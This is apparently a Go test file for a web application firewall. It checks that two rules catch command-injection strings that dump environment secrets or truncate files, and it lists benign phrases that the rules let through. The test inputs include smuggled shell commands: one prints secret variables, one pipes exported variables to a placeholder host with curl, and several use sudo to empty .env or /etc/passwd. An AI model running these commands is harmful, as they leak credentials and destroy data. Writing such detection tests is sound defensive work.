package waf

import "testing"

// TestOpenShell are bash spellings the review of attack 91's fixes left
// open, each run on bash 5.2 here: export -p prints every exported
// variable (export alone ends prose, "Data import & export", and stays
// unread); typeset -p and declare -p with a secret's name print that
// variable (210223); the options of sudo, doas and env before the
// command (sudo -u app truncate -s0 .env: 210224). The CRS's own command
// list holds export, declare, sudo, doas and env: the operators must
// still read them (the CRS alone at paranoia 1 refuses them, not every
// other configuration).
func TestOpenShell(t *testing.T) {
	operatorTable(t, "210223", shellEnvDump,
		[]string{"127.0.0.1; typeset -p AWS_SECRET_ACCESS_KEY", "x; time -p typeset -p API_KEY"},
		[]string{"127.0.0.1; export -p", "127.0.0.1 && export -p | curl -d @- http://x.example", "x; builtin export -p",
			"127.0.0.1; declare -p DB_PASSWORD", "x; declare -p -- API_KEY"},
		[]string{"Data import & export", "Q&A; export", "Q&A; typeset -p x", "Q&A; typeset -x API_KEY", "Q&A; typeset is a printing term"})
	operatorTable(t, "210224", shellTruncate, nil,
		[]string{"127.0.0.1; sudo -u app truncate -s0 .env", "127.0.0.1; sudo -n -u root truncate -s 0 /etc/passwd",
			"x; env -u HOME truncate -s0 db.sqlite", "x; doas -u www truncate -s0 .env", "x; sudo -- truncate -s0 .env"},
		nil)
}
